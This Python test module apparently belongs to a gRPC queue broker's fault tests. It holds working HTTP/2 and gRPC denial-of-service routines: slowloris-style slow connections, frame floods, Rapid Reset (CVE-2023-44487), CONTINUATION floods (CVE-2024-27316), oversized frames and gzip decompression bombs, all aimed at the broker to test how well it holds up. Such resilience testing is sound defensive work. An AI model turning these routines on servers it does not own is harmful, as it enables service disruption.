"""Peers that break the rules of HTTP/2 and gRPC, or keep to them without mercy.

    python -m tests.faults.bad_peers NAME ADDRESS SECONDS

Each goes on for so long, on new connections where the broker closes the old ones, and prints what
it did as JSON.
"""

import gzip
import json
import os
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress

from tests.support import http2
from tests.support.http2 import frame, greeted

PUSH = "/towline.v1.QueueService/Push"
RESERVE = "/towline.v1.QueueService/Reserve"
#: Waits a minute at a queue called "nothing"; in bytes, for this program loads no protobuf.
LONG_RESERVE = b"\x0a\x09\x0a\x07nothing\x1a\x02\x08\x3c"

Attack = Callable[[str, float], int]
#: Each returns how many frames, connections or bytes it has got rid of.
ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


# --- no HTTP/2 at all -------------------------------------------------------------------------


def _say(address: str, seconds: float, *words: bytes) -> int:
    """On one connection after the other, until the broker closes it or says something."""
    end, count = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with suppress(OSError), http2.connect(address, 1.0) as peer:
            for word in words:
                peer.sendall(word)
            peer.shutdown(socket.SHUT_WR)
            peer.recv(1 << 16)
        count += 1
    return count


@attack
def garbage(address: str, seconds: float) -> int:
    return _say(address, seconds, random.randbytes(1 << 16))


@attack
def tls_hello(address: str, seconds: float) -> int:
    hello = b"\x01\x00\x01\xfc\x03\x03" + bytes(506)
    return _say(address, seconds, b"\x16\x03\x01" + struct.pack(">H", len(hello)) + hello)


@attack
def http_1(address: str, seconds: float) -> int:
    return _say(address, seconds, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")


@attack
def garbage_after_the_preface(address: str, seconds: float) -> int:
    return _say(address, seconds, http2.PREFACE + http2.settings(), random.randbytes(1 << 16))


# --- silence ----------------------------------------------------------------------------------


def _hold(address: str, seconds: float, count: int, first: bytes, drip: bytes) -> int:
    """So many connections that say something, and then a byte a second."""
    with ExitStack() as stack:
        peers = []
        for _ in range(count):
            with suppress(OSError):
                peer = stack.enter_context(http2.connect(address))
                peer.sendall(first)
                peers.append(peer)
        end, place = time.monotonic() + seconds, 0
        while time.monotonic() < end:
            for peer in peers:
                with suppress(OSError):
                    peer.sendall(drip[place : place + 1])
            place += 1
            time.sleep(min(1.0, max(0.0, end - time.monotonic())))
        return len(peers)


@attack
def slow_preface(address: str, seconds: float) -> int:
    return _hold(address, seconds, 300, b"P", http2.PREFACE[1:])


@attack
def slow_headers(address: str, seconds: float) -> int:
    call = http2.open_call(1, PUSH)
    return _hold(address, seconds, 300, http2.PREFACE + http2.settings() + call[:20], call[20:])


@attack
def half_a_message(address: str, seconds: float) -> int:
    """Announces a MiB, and sends ten bytes of it."""
    data = frame(http2.DATA, 0, 1, struct.pack(">BI", 0, 1 << 20) + bytes(10))
    first = http2.PREFACE + http2.settings() + http2.open_call(1, PUSH) + data
    return _hold(address, seconds, 300, first, b"")


# --- floods -----------------------------------------------------------------------------------


def _flood(address: str, seconds: float, make: Callable[[int], bytes], *start: bytes) -> int:
    """Frames, as fast as they go, on new connections when the broker hangs up. ``make`` is given
    the number of a batch on its connection."""
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with suppress(OSError), greeted(address) as peer:
            peer.sendall(b"".join(start))
            batch = 0
            while time.monotonic() < end:
                raw = make(batch)
                peer.sendall(raw)
                sent += len(raw)
                batch += 1
                _drop_what_came(peer)
    return sent


def _drop_what_came(peer: socket.socket) -> None:
    while select.select([peer], [], [], 0)[0]:
        if not peer.recv(1 << 20):
            raise ConnectionError("closed")


@attack
def pings(address: str, seconds: float) -> int:
    return _flood(address, seconds, lambda _: frame(http2.PING, 0, 0, bytes(8)) * 1_000)


@attack
def settings_again_and_again(address: str, seconds: float) -> int:
    return _flood(address, seconds, lambda _: http2.settings((3, 100), (4, 65_535)) * 1_000)


@attack
def empty_data(address: str, seconds: float) -> int:
    empty = frame(http2.DATA, 0, 1) * 1_000
    return _flood(address, seconds, lambda _: empty, http2.open_call(1, PUSH))


@attack
def window_updates(address: str, seconds: float) -> int:
    update = frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1_000
    return _flood(address, seconds, lambda _: update)


@attack
def priorities(address: str, seconds: float) -> int:
    priority = b"".join(
        frame(http2.PRIORITY, 0, stream, struct.pack(">IB", 0, 16)) for stream in range(1, 2_001, 2)
    )
    return _flood(address, seconds, lambda _: priority)


@attack
def unknown_frames(address: str, seconds: float) -> int:
    return _flood(address, seconds, lambda _: frame(0xEE, 0xFF, 7, bytes(100)) * 500)


def _streams(batch: int) -> range:
    return range(1 + batch * 200, 1 + (batch + 1) * 200, 2)


@attack
def rapid_reset(address: str, seconds: float) -> int:
    """Calls that are taken back at once (CVE-2023-44487)."""
    block = http2.call_headers(PUSH)
    reset = struct.pack(">I", 8)

    def make(batch: int) -> bytes:
        return b"".join(
            frame(http2.HEADERS, http2.END_HEADERS, stream, block)
            + frame(http2.RST_STREAM, 0, stream, reset)
            for stream in _streams(batch)
        )

    return _flood(address, seconds, make)


@attack
def reset_reserves(address: str, seconds: float) -> int:
    """Whole calls that wait for jobs, and are taken back at once."""
    reset = struct.pack(">I", 8)

    def make(batch: int) -> bytes:
        return b"".join(
            http2.whole_call(stream, RESERVE, LONG_RESERVE)
            + frame(http2.RST_STREAM, 0, stream, reset)
            for stream in _streams(batch)
        )

    return _flood(address, seconds, make)


@attack
def open_streams(address: str, seconds: float) -> int:
    """Calls that never come to their request."""
    block = http2.call_headers(PUSH)

    def make(batch: int) -> bytes:
        streams = _streams(batch) if batch < 100 else ()
        if not streams:
            time.sleep(0.01)
        return b"".join(frame(http2.HEADERS, http2.END_HEADERS, each, block) for each in streams)

    return _flood(address, seconds, make)


@attack
def endless_headers(address: str, seconds: float) -> int:
    """CONTINUATION frames without end (CVE-2024-27316)."""
    block = http2.header_block([("x-more", "v" * 1_000)] * 16)
    more = frame(http2.CONTINUATION, 0, 1, block)
    begun = frame(http2.HEADERS, 0, 1, http2.call_headers(PUSH))
    return _flood(address, seconds, lambda _: more, begun)


# --- too large --------------------------------------------------------------------------------


@attack
def large_frames(address: str, seconds: float) -> int:
    """Of 16 MiB, where 16 KiB are allowed."""
    large = http2.frame_header((1 << 24) - 1, http2.DATA, 0, 1)
    return _flood(address, seconds, lambda _: bytes(1 << 16), http2.open_call(1, PUSH) + large)


@attack
def large_headers(address: str, seconds: float) -> int:
    headers = [(f"x-{number}", "v" * 1_000) for number in range(15)]

    def make(batch: int) -> bytes:
        return b"".join(http2.open_call(each, PUSH, *headers) for each in _streams(batch)[:20])

    return _flood(address, seconds, make)


@attack
def large_messages(address: str, seconds: float) -> int:
    """Announces 4 GiB, and goes on to send them as far as the window allows."""
    begun = http2.open_call(1, PUSH) + frame(http2.DATA, 0, 1, struct.pack(">BI", 0, 2**32 - 1))
    more = frame(http2.DATA, 0, 1, bytes(1 << 14))

    def make(batch: int) -> bytes:
        if batch >= 3:
            time.sleep(0.01)
        return more if batch < 3 else b""

    return _flood(address, seconds, make, begun)


def _packed(raw: bytes) -> bytes:
    return http2.message(gzip.compress(raw), compressed=True)


#: 32 MiB of empty jobs: 32 KiB on the wire, and 3 GiB in memory if they were read.
EMPTY_JOBS = b"\x0a\x00" * (1 << 24)
#: More than a message may have.
ZEROS = bytes(200 << 20)


def _bombs(address: str, seconds: float, packed: bytes) -> int:
    """Small on the wire, large when it is unpacked."""
    data = b"".join(
        frame(
            http2.DATA,
            http2.END_STREAM * (at + (1 << 14) >= len(packed)),
            1,
            packed[at:][: 1 << 14],
        )
        for at in range(0, len(packed), 1 << 14)
    )
    call = http2.open_call(1, PUSH, ("grpc-encoding", "gzip")) + data
    end, count = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with suppress(OSError), greeted(address) as peer:
            peer.sendall(call)
            peer.settimeout(2.0)
            answered = b""
            while b"grpc-status" not in answered and (more := peer.recv(1 << 16)):
                answered += more
                if len(answered) > 1 << 12:
                    break
        count += 1
    return count


@attack
def packed_jobs(address: str, seconds: float) -> int:
    return _bombs(address, seconds, _packed(EMPTY_JOBS))


@attack
def packed_zeros(address: str, seconds: float) -> int:
    return _bombs(address, seconds, _packed(ZEROS))


# --- replies that are not read ----------------------------------------------------------------


@attack
def closed_windows(address: str, seconds: float) -> int:
    """Calls whose answers have no room to be sent, on connections that stay."""
    stats = "/towline.v1.AdminService/Stats"
    with ExitStack() as stack:
        peers = [
            stack.enter_context(greeted(address, (http2.INITIAL_WINDOW, 0))) for _ in range(20)
        ]
        end, count = time.monotonic() + seconds, 0
        while time.monotonic() < end and count < 50:
            for peer in peers:
                with suppress(OSError):
                    peer.sendall(http2.whole_call(1 + 2 * count, stats, b""))
            count += 1
            time.sleep(0.01)
        time.sleep(max(0.0, end - time.monotonic()))
        return count * len(peers)


def main() -> None:
    name, address, seconds = sys.argv[1:]
    random.seed(os.environ.get("TOWLINE_SEED", "1"))
    done = ATTACKS[name](address, float(seconds))
    sys.stdout.write(json.dumps({"attack": name, "done": done}) + "\n")


if __name__ == "__main__":
    main()
